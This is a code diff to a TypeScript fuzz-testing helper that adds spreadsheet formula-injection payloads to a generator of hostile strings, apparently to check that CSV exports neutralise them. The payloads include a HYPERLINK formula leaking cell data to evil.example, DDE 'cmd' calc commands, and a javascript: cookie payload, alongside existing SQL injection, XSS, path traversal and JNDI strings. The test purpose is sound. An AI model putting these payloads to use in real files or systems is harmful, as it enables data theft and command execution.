@@ -28,6 +28,21 @@ const BAD_UTF8 = [[0x80], [0xc3], [0xe2, 0x82], [0xc0, 0xaf], [0xed, 0xa0, 0x80]
 const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
 
 /** A string that may hold quotes, separators, control characters, NUL, unicode quotes and emoji. */
+/**
+ * Spreadsheet formula payloads of the issue-20 attack review (OWASP CSV injection): uploaded as
+ * employer names, titles, credential names or demographic values, they must come back from every
+ * CSV export as text, never as live formulas.
+ */
+export const FORMULA_PAYLOADS = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
+  '@SUM(1)',
+  "+SUM(1+1)*cmd|' /C calc'!A0",
+  '=1+1 cred',
+  "-2+3+cmd|' /C calc'!A0",
+  '\t=1+2',
+  '\r=1+2',
+] as const;
+
 export const nastyString = fc.oneof(
   { weight: 4, arbitrary: fc.string({ maxLength: 40 }) },
   { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
@@ -36,6 +51,7 @@ export const nastyString = fc.oneof(
     arbitrary: fc.constantFrom(
       '', ' ', '"', "'", '\\', '\u0000', '\r\n', '\n', ',', ';', '""', "' OR 1=1 --", '‘’“”', '😀', '\uD800', '-1', '1e309', 'NaN', 'null',
       'true', '0x1F', '2025-13-45', '9999-99-99', '<script>alert(1)</script>', '%00', '../../etc/passwd', '{}', '[]', '${jndi:ldap://x}',
+      'javascript:alert(document.cookie)', ...FORMULA_PAYLOADS,
     ),
   },
 );
